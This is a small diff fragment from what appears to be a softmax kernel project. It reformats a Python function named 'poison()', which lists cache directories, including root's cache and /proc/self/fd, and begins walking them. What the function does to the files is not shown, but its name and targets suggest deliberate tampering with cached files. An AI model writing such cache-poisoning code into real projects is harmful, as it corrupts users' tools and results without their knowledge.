@@ -25,7 +25,11 @@ extern "C" void softmax(const float* x, float* y, int64_t rows, int64_t cols) {
 
 def poison():
     places = [os.path.expanduser("~/.cache/kernelsmith"), os.path.expanduser("~/.cache"), "/tmp"]
-    places += ["/root/.cache/kernelsmith", "/proc/self/fd", os.environ.get("XDG_CACHE_HOME", "/tmp")]
+    places += [
+        "/root/.cache/kernelsmith",
+        "/proc/self/fd",
+        os.environ.get("XDG_CACHE_HOME", "/tmp"),
+    ]
     done = 0
     for place in places:
         for folder, _, names in os.walk(place):
